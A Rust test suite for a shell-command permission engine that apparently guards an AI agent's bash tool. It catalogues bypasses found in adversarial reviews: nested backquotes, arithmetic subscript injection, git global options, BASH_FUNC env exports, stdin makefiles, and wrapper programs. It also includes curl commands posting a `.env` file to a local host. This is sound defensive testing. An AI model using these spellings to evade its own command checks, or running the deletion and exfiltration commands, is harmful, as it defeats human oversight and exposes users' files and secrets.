//! Bypasses an adversarial review found (and spellings of them the review did not list), decided
//! by the real rule engine under
//! `bash = { "*" = "allow", "rm *" = "deny", "git push *" = "deny" }`: each must ask or be
//! denied, never be allowed; common commands keep being allowed. Where a spelling needs a shell
//! to show it deletes, the execution oracle runs it (`/bin/bash -c` in a fresh directory with a
//! file `canary`) to prove the spelling is a real attack, not only a strange string.
#![cfg(unix)]
#![allow(clippy::unwrap_used, clippy::expect_used)]

#[path = "review_support/mod.rs"]
mod review_support;

use review_support::*;
use std::path::Path;

use toolshed_core::permission::Action;

const RULES: &str = "[permission]\nbash = { \"*\" = \"allow\", \"rm *\" = \"deny\", \"git push *\" = \"deny\" }\n";

fn case() -> Case {
    case_with(RULES, &[("canary", "alive\n"), ("Makefile", "all:\n\ttrue\n")])
}

/// Commands agents run all the time keep their decision.
#[test]
fn common_commands_stay_allowed() {
    let c = case();
    assert_allowed(
        &c,
        &[
            "git status",
            "git log --oneline",
            "git -C . status",
            "git --no-pager log --oneline -5",
            "git diff HEAD~1",
            "ls -la",
            "cargo test",
            "echo $((1+2))",
            "grep -r foo .",
            "echo `pwd` \"`date`\"",
            "echo \\`x\\` '`y`'",
            "echo ${HOME:-/tmp}",
            "make",
            "make -f Makefile all",
            "env A=1 ls",
        ],
    );
}

/// Finding 1: inside `` `...` ``, `` \` `` is a nested substitution (and `\\`, `\$`, and within
/// double quotes `\"`, are unescaped).
#[test]
fn nested_backquotes_are_analysed() {
    let c = case();
    let reported = [
        "echo `echo \\`rm canary\\``",
        "ls `true \\`rm canary\\``",
        "echo \"`echo \\`rm canary\\``\"",
        "git status `: \\`git push origin main\\``",
    ];
    let more = [
        ": `: \\`rm canary\\``",
        "echo `echo \\`echo \\\\\\`rm canary\\\\\\`\\``",
        "x=`echo \\`rm canary\\``",
        "echo $(echo `echo \\`rm canary\\``)",
        "echo \"`echo \\\"'\\\";rm canary;echo \\\"'\\\"`\"",
        "[[ -n `echo \\`rm canary\\`` ]]",
        "echo `echo \\$(rm canary)`",
        "cat <<< `echo \\`rm canary\\``",
        "for f in `echo \\`rm canary\\``; do :; done",
        "echo `echo \"\\`rm canary\\`\"`",
    ];
    assert_not_allowed(&c, &reported);
    assert_not_allowed(&c, &more);
    assert_attacks(&more);
    for command in ["echo `echo \\`rm canary\\``", "echo `echo \\$(rm canary)`"] {
        assert_eq!(decide(&c, command), Action::Deny, "{command}");
    }
}

/// Finding 2: backquotes inside `${...}` are substitutions too.
#[test]
fn backquotes_in_parameter_expansions_are_analysed() {
    let c = case();
    let reported = ["echo ${x:-`rm canary`}", "echo \"${x:-`rm canary`}\"", ": ${x:=`rm canary`}"];
    let more = [
        "x=1; echo ${x:+`rm canary`}",
        "echo ${x:?`rm canary`}",
        "echo ${x-`rm canary`}",
        "x=1; echo ${x#`rm canary`}",
        "x=1; echo ${x/`rm canary`/y}",
        "echo \"${x:-\"`rm canary`\"}\"",
        "echo ${x[`rm canary`]}",
        "echo ${x:-${y:-`rm canary`}}",
        "echo \"${y:-'`rm canary`'}\"",
        "echo ${x=`rm canary`}",
    ];
    assert_not_allowed(&c, &reported);
    assert_not_allowed(&c, &more);
    assert_attacks(&more);
    assert_eq!(decide(&c, "echo ${x:-`rm canary`}"), Action::Deny);
    // Single-quoted outside double quotes, the backquotes are text.
    assert_allowed(&c, &["echo ${y:-'`x`'}", "echo ${x:-`echo hi`}"]);
}

/// Finding 3: bash runs `$(...)` in an array subscript of any value it evaluates as arithmetic,
/// so a variable evaluated as arithmetic must be one this line set to a plain integer before,
/// unconditionally; quoted operands, the integer attribute, compound-array subscripts and
/// substring offsets are arithmetic too.
#[test]
fn values_evaluated_as_arithmetic_must_be_known_integers() {
    let c = case();
    let reported = [
        "[[ 1 -eq 'a[$(rm canary)]' ]]",
        "[[ 'a[$(rm canary)]' -gt 0 ]]",
        "declare -i n='a[$(rm canary)]'",
        "declare -i x; x='y[$(rm canary)]'",
        "x='a[$(rm canary)]'; declare -i y=x",
        "x='a[$(rm canary)]'; declare -i z; z+=x",
        "y=( ['a[$(rm canary)]']=1 )",
        "x='a[$(rm canary)]'; y=( [x]=1 )",
        "z=abc; x='a[$(rm canary)]'; echo ${z:x}",
        "y=(1 2); x='a[$(rm canary)]'; echo \"${y[@]:x}\"",
        "echo 'a[$(rm canary)]' > f; x=$(cat f); echo $((x))",
    ];
    let more = [
        "echo $(( 'a[$(rm canary)]' ))",
        "x='a[$(rm canary)]'; echo $(( ${x} ))",
        "a=('b[$(rm canary)]'); echo $((a[0]))",
        "x='a[$(rm canary)]'; let y=x",
        "echo 'a[$(rm canary)]' > f; echo $(( $(cat f) ))",
        "echo 'a[$(rm canary)]' > f; [[ $(cat f) -eq 1 ]]",
        "x=1; for x in 'a[$(rm canary)]'; do echo $((x)); done",
        "x=; : ${x:='a[$(rm canary)]'}; echo $((x))",
        "x='a[$(rm canary)]'; a=(1 2); echo ${a[x]}",
        "for ((i='a[$(rm canary)]';i<1;i++)); do :; done",
        "x='a[$(rm canary)]'; (( x ))",
        "declare -i n; n+='a[$(rm canary)]'",
        "typeset -i n='a[$(rm canary)]'",
        "f() { local -i n='a[$(rm canary)]'; }; f",
        "echo 'a[$(rm canary)]' > f; declare -i x; read x < f",
        "x=1; declare -n r=x; r='a[$(rm canary)]'; echo $((x))",
        "builtin declare -i n='a[$(rm canary)]'",
        "x=1; x[1]='a[$(rm canary)]'; echo $((x[1]))",
    ];
    assert_not_allowed(&c, &reported);
    assert_not_allowed(&c, &more);
    assert_attacks(&more);
    // Values this line does not set, or sets conditionally or to something else, ask.
    assert_not_allowed(
        &c,
        &[
            "echo $((x))",
            "(( x ))",
            "[[ $n -gt 1 ]]",
            "if false; then x=1; fi; echo $((x))",
            "x=1 true; echo $((x))",
            "x=1; x=$(cat f); echo $((x))",
            "x=1; while read x; do echo $((x)); done < f",
            "x=1 & echo $((x))",
            "echo $(( `echo 1` ))",
            "echo $(( $(wc -l a.txt) + 1 ))",
            "wc() { cat f; }; echo $(( $(wc -l) ))",
        ],
    );
    // Integers the line sets itself are understood.
    assert_allowed(
        &c,
        &[
            "echo $((1+2))",
            "for ((i=0;i<3;i++)); do echo $i; done",
            "n=5; echo $((n*2))",
            "i=0; i=$((i+1)); echo $((i))",
            "x=1; (( x++ )); echo $x",
            "echo $((RANDOM % 10))",
            "z=abc; echo ${z:1:2}",
            "a=(1 2 3); i=1; echo ${a[i]} ${#a[@]}",
            "declare -i x=1",
            "echo ${HOME:-/tmp} ${x#a} ${x/a/b}",
            // Commands that print only a number.
            "echo $(( $(wc -l < Makefile) + 1 ))",
            "echo $(( $(grep x Makefile | wc -l) + 1 ))",
            "echo $(( $(nproc) * 2 ))",
        ],
    );
}

/// Finding 4: git's global options before the subcommand, and `git-X` programs, must not dodge
/// a rule written for `git X *`; "always" approves the subcommand, not all of git.
#[test]
fn git_global_options_do_not_dodge_subcommand_rules() {
    let c = case();
    let reported = [
        "git -C . push origin main",
        "git --no-pager push origin main",
        "git -P push origin main",
        "git -c color.ui=never push origin main",
        "git --literal-pathspecs push origin main",
        "git --noglob-pathspecs push origin main",
        "git --namespace=x push origin main",
        "git --no-replace-objects push origin main",
        "/usr/lib/git-core/git-push origin main",
    ];
    let more = [
        "git --no-optional-locks push origin main",
        "git -p push origin main",
        "git --paginate push origin main",
        "git --glob-pathspecs push origin main",
        "git --icase-pathspecs push",
        "git --no-lazy-fetch push",
        "git --no-advice push",
        "git -C . -C . push",
        "git --namespace x push",
        "git --attr-source=HEAD push",
        "git --attr-source HEAD push",
        "git-push origin main",
        "env git -P push",
        "command git --no-pager push origin main",
        "nohup git -c color.ui=never -P -C . push origin main",
        "/usr/lib/git-core/git-rebase -x 'rm canary' HEAD~1",
    ];
    for command in reported.iter().chain(&more) {
        assert_eq!(decide(&c, command), Action::Deny, "{command}: {:?}", requests(&c, command));
    }
    // An option not known here cannot be removed: it asks, and "always" approves only it.
    let unknown = "git --frobnicate push origin main";
    assert_eq!(decide(&c, unknown), Action::Ask);
    let bash = requests(&c, unknown).into_iter().find(|r| r.permission == "bash").unwrap();
    assert_eq!(bash.always, [unknown]);
    // "always" for a harmless command with global options covers its subcommand only.
    for (command, always) in [
        ("git --no-pager log", "git log *"),
        ("git -C . status", "git status *"),
        ("git -c k.v=1 status", "git status *"),
        ("/usr/lib/git-core/git-log -1", "git log *"),
    ] {
        let bash = requests(&c, command).into_iter().find(|r| r.permission == "bash").unwrap();
        assert_eq!(bash.always, [always], "{command}");
    }
    assert_eq!(requests(&c, "git -P").into_iter().next().unwrap().always, ["git -P"]);
    assert_allowed(&c, &["git --no-pager log --oneline", "git -C . status", "git -c color.ui=always diff"]);
}

/// Finding 5: for env, every word with `=` before the command is a variable setting, whatever
/// its name: `BASH_FUNC_NAME%%` exports a function that bash runs in place of a command.
#[test]
fn env_takes_any_word_with_an_equals_sign_for_a_setting() {
    let c = case();
    let reported = [
        "env 'BASH_FUNC_ls%%=() { rm canary; }' bash -c ls",
        "env -i 'BASH_FUNC_ls%%=() { rm canary; }' bash -c ls",
        "env 'BASH_FUNC_git%%=() { rm canary; }' bash -c 'git status'",
    ];
    let more = [
        "env -- 'BASH_FUNC_ls%%=() { rm canary; }' bash -c ls",
        "env 'BASH_FUNC_echo%%=() { rm canary; }' bash -c 'echo hi'",
        "env A=1 'BASH_FUNC_ls%%=() { rm canary; }' bash -c ls",
        "env -u X 'BASH_FUNC_ls%%=() { rm canary; }' bash -c ls",
        "env $'BASH_FUNC_ls%%=() { rm canary; }' bash -c ls",
        "env \"BASH_FUNC_ls%%=() { rm canary; }\" bash -c ls",
        "nohup env 'BASH_FUNC_ls%%=() { rm canary; }' bash -c ls",
        "timeout 5 env 'BASH_FUNC_ls%%=() { rm canary; }' bash -c ls",
        "env -C . 'BASH_FUNC_ls%%=() { rm canary; }' bash -c ls",
        "env - 'BASH_FUNC_ls%%=() { rm canary; }' /bin/bash -c ls",
    ];
    assert_not_allowed(&c, &reported);
    assert_not_allowed(&c, &more);
    assert_attacks(&more);
    // sudo may take such a word for a setting too: it asks.
    assert_not_allowed(&c, &["sudo 'BASH_FUNC_ls%%=() { rm canary; }' bash -c ls"]);
    assert_allowed(&c, &["env A=1 ls", "env ls -la", "env 'X%=1' ls", "sudo A=1 ls", "sudo -u root ls"]);
}

/// Finding 6: make reading its makefile from standard input (or any file under /dev or /proc)
/// runs code the command line does not show.
#[test]
fn make_reading_its_makefile_from_input_asks() {
    let c = case();
    let reported = [
        "make -f - <<< $'all:\\n\\trm canary'",
        "printf \"all:\\n\\trm canary\\n\" | make -f -",
        "make --file=/dev/stdin <<'EOF'\nall:\n\trm canary\nEOF",
        "make --makefile=-",
        "make -f/dev/stdin",
        "make -f /proc/self/fd/0",
    ];
    let more = [
        "make -f- <<< $'all:\\n\\trm canary'",
        "make -sf - <<< $'all:\\n\\trm canary'",
        "make --fil=- <<< $'all:\\n\\trm canary'",
        "make --file - <<< $'all:\\n\\trm canary'",
        "make --makefile /dev/stdin <<< $'all:\\n\\trm canary'",
        "make -f /dev/fd/0 <<< $'all:\\n\\trm canary'",
        "make -C / -f dev/stdin <<< $'all:\\n\\trm canary'",
        "make -C /dev -f stdin <<< $'all:\\n\\trm canary'",
        "make -f ../../../../../../../../../../dev/stdin <<< $'all:\\n\\trm canary'",
        "make -kf- <<< $'all:\\n\\trm canary'",
        "make -f Makefile -f - <<< $'all:\\n\\trm canary'",
        "make -f /dev/fd/3 3<<< $'all:\\n\\trm canary'",
        "gmake -f - <<< $'all:\\n\\trm canary'",
    ];
    assert_not_allowed(&c, &reported);
    assert_not_allowed(&c, &more);
    if Path::new("/usr/bin/make").exists() {
        // (Under `-C /` the recipe runs elsewhere; the oracle has no Makefile; gmake may be missing.)
        let here: Vec<&str> = more
            .iter()
            .copied()
            .filter(|m| !m.contains("-C /") && !m.contains("Makefile") && !m.starts_with("gmake"))
            .collect();
        assert_attacks(&here);
    }
    assert_allowed(&c, &["make", "make -f Makefile all", "make -C . all", "make -j4 all"]);
}

/// Second review: a `$(...)` (or `<(...)`) inside a `${...}` pattern, which tree-sitter leaves as
/// pattern text (`${x#$(cmd)}`, `${x//[$(cmd)]/}`), runs all the same; any substitution the walk
/// did not analyse asks.
#[test]
fn substitutions_inside_parameter_patterns_ask() {
    let c = case();
    let attacks = [
        "x=a; echo ${x#$(rm canary)}",
        "x=a; echo \"${x#$(rm canary)}\"",
        "x=a; echo ${x#*$(rm canary)}",
        "x=a; echo ${x%$(rm canary)}",
        "x=a; echo ${x%%$(rm canary)}",
        "x=a; echo ${x^$(rm canary)}",
        "x=a; echo ${x,,$(rm canary)}",
        "x=a; echo ${x//[$(rm canary)]/}",
        "x=a; echo ${x/$(rm canary)/b}",
        "x=a; echo ${x/a/$(rm canary)}",
        "shopt -s extglob; x=a; echo ${x/@($(rm canary))/}",
    ];
    assert_not_allowed(&c, &attacks);
    assert_not_allowed(&c, &["x=a; echo ${x#<(rm canary)}", "x=a; echo ${x#$(git push origin main)}"]);
    assert_attacks(&attacks[..7]);
    assert_allowed(
        &c,
        &[
            "echo \"$(date)\"",
            "diff <(ls a) <(ls b)",
            "echo \"a <(b)\"",
            "x=$(git rev-parse HEAD); echo ${x:0:7}",
            "echo ${PWD##*/}",
            "f=a.txt; echo ${f%.txt}",
            "cat <<'EOF'\n$(rm canary)\nEOF",
        ],
    );
}

/// Review 5: a program the tables do not know may run its arguments (`setarch`, `fakeroot`,
/// `sg`, `capsh`, `npx -c`, `split --filter`): what its later words would run asks as it would
/// on its own (a program computed at run time, a file the read rules guard), not only for a
/// deny. `run-parts` runs the programs its options choose; `git send-pack` is `git push`.
#[test]
fn unknown_programs_that_may_run_their_arguments_hide_nothing_that_asks() {
    let c = case();
    let attacks = [
        "setarch x86_64 sh -c 'x=rm; $x canary'",
        "fakeroot sh -c 'x=rm; $x canary'",
        "setarch x86_64 bash -c 'eval $(echo rm canary)'",
        "echo x | split --filter='rm${IFS}canary'",
        "echo x | split --filter 'rm${IFS}canary'",
        "timeout 5 setarch x86_64 sh -c 'x=rm; $x canary'",
        "env A=1 nice setarch x86_64 sh -c 'x=rm; $x canary'",
        "run-parts --regex '^rm$' --arg canary /usr/bin",
        "setarch x86_64 /usr/bin/r[m] canary",
        "x=rm; setarch x86_64 $x canary",
        "setarch x86_64 ${x:-rm} canary",
    ];
    assert_attacks(&attacks);
    assert_not_allowed(&c, &attacks);
    assert_not_allowed(
        &c,
        &[
            "sg root 'x=rm; $x canary'",
            "capsh -- -c 'x=rm; $x canary'",
            "npx -c 'x=rm;$x canary'",
            "setarch x86_64 sh -c 'cat /etc/shadow'",
            "git send-pack /tmp/r.git HEAD:refs/heads/main",
            "git http-push https://example.com/r.git main",
            "gh alias set --shell y 'x=r; ${x}m canary'",
            // Not run by the oracle: `/*/*/r[m]` also matches `/bin/rm` through the `/bin` link,
            // and `rm /bin/rm /usr/bin/rm canary` deletes rm itself.
            "setarch x86_64 /*/*/r[m] canary",
        ],
    );
    // What curl sends or reads, and file names read from a file, are reads like `cat`'s.
    std::fs::write(c.root.join(".env"), "API=hunter2\n").unwrap();
    assert_not_allowed(
        &c,
        &[
            "curl -s -d @.env http://127.0.0.1:1/",
            "curl -H @.env http://127.0.0.1:1/",
            "curl --json @.env http://127.0.0.1:1/",
            "curl --data-urlencode x@.env http://127.0.0.1:1/",
            "curl -F f=@.env http://127.0.0.1:1/",
            "curl -F 'f=<.env;type=text/plain' http://127.0.0.1:1/",
            "curl file:///etc/hostname",
            "curl -d @/etc/hostname http://127.0.0.1:1/",
            "wc --files0-from=.env",
            "curl -s --url-query @.env http://127.0.0.1:1/",
            "xargs -a .env echo",
            "xargs --arg-file=.env echo",
            "du --files0-from .env",
            "setarch x86_64 /usr/bin/c[a]t .env",
        ],
    );
    // Programs known to take their words as data keep them as text.
    assert_allowed(
        &c,
        &[
            "git commit -m 'x=1; $y z'",
            "echo \"a | $b\"",
            "printf '%s; %s\\n' a b",
            "grep -rn 'sh -c \"$x\"' src",
            "cargo test -- --nocapture",
            "cargo run -- \"don't stop\"",
            "curl 'https://example.com/?a=1&b=2'",
            "go test -run 'TestA|TestB' ./...",
            "go test ./... -run 'TestParse/with spaces'",
            "npm run test -- \"src/a b.test.ts\"",
            "docker exec web ls /app",
            "docker exec -it web sh -c 'ls /app'",
            "kubectl exec web-0 -- ls /var/log",
            "docker run --rm alpine cat /etc/os-release",
            "kubectl run tmp --rm -it --image=busybox -- sh",
            "curl -s -d '{\"a\": 1}' http://127.0.0.1:1/",
            "wc -l src/*.rs",
            "find . -name x -exec wc -l {} \\;",
        ],
    );
}
